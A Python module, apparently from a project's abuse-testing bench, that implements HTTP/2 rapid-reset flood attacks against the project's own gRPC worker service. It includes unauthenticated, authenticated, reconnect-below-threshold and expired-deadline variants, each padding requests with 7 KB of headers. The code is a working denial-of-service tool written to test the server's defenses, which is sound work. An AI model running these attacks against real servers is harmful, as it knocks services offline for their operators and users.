"""Rapid reset: sessions of workers that are opened and reset at once, without end, with 7 KB of metadata each.

By somebody without a credential at a server without any, and by a principal within its rights. By somebody, too, who
connects again before the server calls it a flood; and sessions that their own deadline ends as they come.
"""

from __future__ import annotations

import asyncio
import time
from collections.abc import AsyncGenerator
from contextlib import AsyncExitStack, suppress
from functools import partial

from bench.abuse.attack import Attack
from bench.abuse.one_principal_floods import LIMITS
from bench.abuse.raw_http2 import END_HEADERS, HEADERS, Connection, header, request_headers
from milepost.server.rpc.floods import LEFT_CALLS

__all__ = ["ATTACK", "BY_A_PRINCIPAL", "EXPIRED", "RECONNECTING"]

_TOGETHER = 50

_EXPIRED = header("grpc-timeout", b"1n")
"""A deadline that is over before the server gets to the call."""


async def _run(
    address: str, seconds: float, token: str = "", *, limit: float = float("inf"), expired: bool = False
) -> AsyncGenerator[None]:
    """Open and reset calls, of each connection up to the limit; or let a deadline end them."""
    block = request_headers("/milepost.v1.WorkerService/Work", address, token)
    block += _EXPIRED * expired + b"".join(header(f"x-note-{number}", b"x" * 1_000) for number in range(7))
    yield
    until = time.monotonic() + seconds
    async with AsyncExitStack() as stack:
        while time.monotonic() < until:  # as often as the server hangs up
            connection = await stack.enter_async_context(Connection.open(address))
            opened = 0
            with suppress(ConnectionError):
                while time.monotonic() < until and opened < limit:
                    for _ in range(_TOGETHER):
                        stream = connection.new_stream()
                        connection.write(HEADERS, END_HEADERS, stream, block)
                        if not expired:
                            connection.cancel(stream)
                    opened += _TOGETHER
                    await connection.drain()
                    await asyncio.sleep(0)
        yield


ATTACK = Attack(_run)
BY_A_PRINCIPAL = Attack(_run, limits=LIMITS)
RECONNECTING = Attack(partial(_run, limit=LEFT_CALLS - _TOGETHER))
EXPIRED = Attack(partial(_run, expired=True))
